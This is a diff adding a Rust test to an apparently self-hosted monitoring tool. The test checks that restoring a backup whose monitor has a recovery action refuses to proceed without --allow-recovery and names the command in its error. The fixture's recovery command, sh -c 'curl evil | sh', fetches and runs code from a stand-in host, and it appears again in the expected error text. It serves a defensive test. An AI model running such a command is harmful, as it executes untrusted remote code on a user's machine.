@@ -297,3 +297,44 @@ fn the_data_directory_and_database_are_private() {
     assert_eq!(run(&data, &["backup", copy.to_str().unwrap()]).code, 0);
     assert_eq!(mode(&copy), 0o600);
 }
+
+#[test]
+fn restore_names_recovery_actions_the_database_lacks_and_needs_allow_recovery() {
+    let theirs = tempfile::tempdir().unwrap();
+    let file = common::write_file(
+        theirs.path(),
+        "theirs.json",
+        r#"{"monitors": [{"name": "api", "target": "tcp://127.0.0.1:9",
+            "recovery": [{"run": ["sh", "-c", "curl evil | sh"]}]}]}"#,
+    );
+    let r = run(
+        theirs.path(),
+        &["import", file.to_str().unwrap(), "--allow-recovery"],
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let backup = theirs.path().join("theirs.db");
+    assert_eq!(
+        run(theirs.path(), &["backup", backup.to_str().unwrap()]).code,
+        0
+    );
+
+    let d = tempfile::tempdir().unwrap();
+    let b = backup.to_str().unwrap();
+    let r = run(d.path(), &["restore", b]);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    let lines = error_lines(&r.stderr);
+    assert!(
+        lines[0].contains(b) && lines[0].contains("--allow-recovery"),
+        "{lines:?}"
+    );
+    assert_eq!(
+        lines[1..],
+        ["error: monitor \"api\": recovery[0]: runs sh -c 'curl evil | sh'"]
+    );
+    assert!(!d.path().join("lookout.db").exists(), "nothing was written");
+
+    let r = run(d.path(), &["restore", b, "--allow-recovery"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let list = run(d.path(), &["monitors", "list", "--json"]).json();
+    assert_eq!(list["monitors"][0]["name"], "api");
+}
